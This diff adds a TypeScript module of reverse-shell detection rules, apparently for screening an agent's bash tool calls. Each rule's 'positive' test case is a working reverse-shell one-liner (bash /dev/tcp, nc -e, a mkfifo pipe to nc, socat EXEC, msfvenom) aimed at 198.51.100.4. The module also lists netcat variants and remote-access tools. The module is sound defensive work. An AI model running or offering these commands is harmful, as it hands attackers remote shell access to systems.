@@ -1,0 +1,135 @@
+import { type CommandRule, hasOption } from './command-rule.ts';
+import type { Command } from './command.ts';
+import { SHELLS } from './programs.ts';
+
+const bash = (script: string) => ({ tool: 'bash', arguments: { script } }) as const;
+const type = 'reverse_shell';
+
+const NETCAT = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'nc64', 'nc32', 'rustcat', 'rcat', 'pwncat', 'cryptcat', 'sbd', 'dbd', 'powercat', 'nc6', 'gnc', 'goncat', 'dc'];
+const isShell = (name: string): boolean => SHELLS.has(name) || /^(?:cmd|powershell|pwsh)$/.test(name);
+const namesShell = (text: string): boolean => /(?:^|[\s/\\"'=:])(?:(?:ba|z|k|da|a|fi|c|tc|mk)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|sh\.exe|bash\.exe|\$SHELL|busybox|python3?|perl)(?:$|[\s"',;])/i.test(text);
+
+/** A program that talks to another machine and passes on what it reads and writes. */
+function talks({ name, args }: Command): boolean {
+  if (NETCAT.includes(name)) return !args.some(({ text }) => /^-[a-zA-Z]*z/.test(text)) && name !== 'dc';
+  if (name === 'telnet' || name === 'websocat' || name === 'wscat') return args.length > 0;
+  if (name === 'openssl') return args[0]?.text === 's_client' || args[0]?.text === 's_server';
+  if (name === 'socat') return args.some(({ text }) => /^(?:tcp|udp|openssl|ssl|sctp|ws)/i.test(text));
+  if (name === 'curl') return args.some(({ text }) => text.startsWith('telnet://'));
+  return name === 'gnutls-cli' || name === 'stunnel';
+}
+
+/** Along the pipe, past filters, to the first command that `accepts`. */
+function fed(command: Command, accepts: (from: Command) => boolean): boolean {
+  let from = command.pipedFrom;
+  for (let hops = 0; from && hops < 6; hops += 1, from = from.pipedFrom) {
+    if (accepts(from)) return true;
+    if (!/^(?:tee|cat|sed|awk|tr|while|read|timeout|stdbuf|base64|)$/.test(from.name)) return false;
+  }
+  return false;
+}
+
+const network = ({ redirects, args }: Command): boolean => redirects.some(({ target }) => target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(target.text)) || args.some(({ text }) => /\/dev\/(?:tcp|udp)\//.test(text));
+/** Its own program text (`-c …`) is another command; what matters is whether it reads commands from elsewhere. */
+const interactive = ({ args }: Command): boolean => !args.some(({ text }) => /^-[a-z]*c$/.test(text)) && args.every(({ text }) => /^[-+>&<\d]/.test(text));
+
+export const reverseShellRules: readonly CommandRule[] = [
+  {
+    id: 'shell.dev-tcp-shell',
+    type,
+    severity: 'critical',
+    sees: 'a shell joined to a network connection through `/dev/tcp` or `/dev/udp`',
+    programs: ['*'],
+    literals: ['/dev/tcp', '/dev/udp'],
+    positive: bash('bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'),
+    nearMiss: bash('until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done'),
+    source: 'https://gtfobins.github.io/gtfobins/bash/#reverse-shell',
+    holds: (command) => {
+      if (!network(command)) return false;
+      if (isShell(command.name) || /^(?:su|script|python3?|perl|ruby|login)$/.test(command.name)) return true;
+      if (command.pipedFrom && isShell(command.pipedFrom.name)) return true;
+      const descriptor = command.redirects.some(({ operator, target, fd }) => (operator === '<>' || ((fd ?? 0) > 2 && operator === '<')) && /^\/dev\/(?:tcp|udp)\//.test(target?.text ?? ''));
+      return descriptor && (command.name === 'exec' || command.name === '' || command.name === 'eval');
+    },
+  },
+  {
+    id: 'shell.netcat-exec',
+    type,
+    severity: 'critical',
+    sees: 'netcat or a relative that runs a program for whoever is on the line',
+    programs: NETCAT,
+    literals: ['nc ', 'nc.', 'ncat', 'netcat', 'rustcat', 'rcat ', 'pwncat', 'cryptcat', 'sbd ', 'powercat', ',-e', 'nc$', 'nc\t'],
+    positive: bash('nc -nlvp 4444 -e /bin/sh'),
+    nearMiss: bash('nc -zv db.internal 5432; ncat --version'),
+    source: 'https://gtfobins.github.io/gtfobins/nc/',
+    holds: ({ name }, words) => {
+      if (name === 'dc') return false;
+      return words.some((word, index) => {
+        const value = words[index + 1] ?? '';
+        if (/^--(?:exec|sh-exec|lua-exec)/.test(word)) return true;
+        if (/^-[a-zA-Z]*e$/.test(word) && value !== '') return name !== 'powercat' || namesShell(value);
+        if (/^-[a-zA-Z]*[cr]$/.test(word) || /^-e./.test(word)) return namesShell(value) || namesShell(word.slice(2)) || (/c$/.test(word) && /^["']?\//.test(value));
+        return (name === 'rustcat' || name === 'rcat') && /^(?:c|connect)$/.test(word) && hasOption(words, 's', '--shell');
+      });
+    },
+  },
+  {
+    id: 'shell.piped-shell',
+    type,
+    severity: 'critical',
+    sees: 'a shell that takes its commands from a network connection or sends it what it answers',
+    programs: ['*'],
+    literals: ['mkfifo', 'mknod', 'telnet', 's_client', 's_server', 'nc ', 'ncat', 'netcat', 'websocat', 'wscat', 'socat', 'gnutls-cli'],
+    positive: bash('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f'),
+    nearMiss: bash('printf "GET / HTTP/1.0\\r\\n\\r\\n" | nc example.com 80 | head -1'),
+    source: 'https://gtfobins.github.io/gtfobins/openssl/#reverse-shell',
+    holds: (command) => {
+      if (isShell(command.name)) return interactive(command) && fed(command, talks);
+      return talks(command) && fed(command, (from) => isShell(from.name) && interactive(from));
+    },
+  },
+  {
+    id: 'shell.socat-shell',
+    type,
+    severity: 'critical',
+    sees: 'socat joining a program to a network address',
+    programs: ['socat'],
+    literals: ['socat'],
+    positive: bash('socat TCP:198.51.100.4:4444 EXEC:/bin/sh,pty,stderr'),
+    nearMiss: bash('socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80'),
+    source: 'https://gtfobins.github.io/gtfobins/socat/',
+    holds: (_, words) => words.some((word) => /^(?:exec|system|shell):/i.test(word)) && words.some((word) => /^(?:tcp|udp|openssl|ssl|sctp|vsock|socks|proxy|ws)/i.test(word)),
+  },
+  {
+    id: 'shell.ztcp-shell',
+    type,
+    severity: 'critical',
+    sees: 'zsh\'s own network module with a shell on its connection',
+    programs: ['ztcp', 'zsocket'],
+    literals: ['ztcp', 'zsh/net'],
+    positive: bash('zsh -c "zmodload zsh/net/tcp && ztcp 198.51.100.4 4444 && zsh >&\\$REPLY 2>&\\$REPLY 0>&\\$REPLY"'),
+    nearMiss: bash('zsh -c "zmodload zsh/datetime && echo $EPOCHSECONDS"'),
+    holds: (_, words) => words.length > 0,
+  },
+  {
+    id: 'shell.remote-terminal',
+    type,
+    severity: 'high',
+    sees: 'a terminal or program shown on another machine, or a payload made for one',
+    programs: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'villain', 'weevely', 'pwncat-cs', 'sliver-server', 'evil-winrm', 'gsocket', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo-agent', 'merlinagent'],
+    literals: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'weevely', 'pwncat', 'sliver', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo'],
+    positive: bash('msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.4 LPORT=4444 -f elf -o shell.elf'),
+    nearMiss: bash('TERM=xterm ls; xterm -e top; chisel --help'),
+    source: 'MITRE ATT&CK T1219',
+    holds: ({ name }, words) => {
+      const text = words.join(' ');
+      if (words.length === 0 || /^-{1,2}(?:help|version|h|v)$/.test(text)) return name === 'gs-netcat';
+      if (name === 'xterm') return /-display \S*:\d/.test(text) && !/-display (?:localhost|127\.0\.0\.1)?:\d/.test(text);
+      if (name === 'msfvenom') return /(?:^| )(?:-p|--payload)/.test(text);
+      if (name === 'chisel') return /^client\b/.test(text) && /\bR:/.test(text);
+      if (name === 'msfconsole') return /-[xr]\b/.test(text);
+      if (name === 'ttyd' || name === 'gotty') return namesShell(text) || /login/.test(text);
+      return true;
+    },
+  },
+];
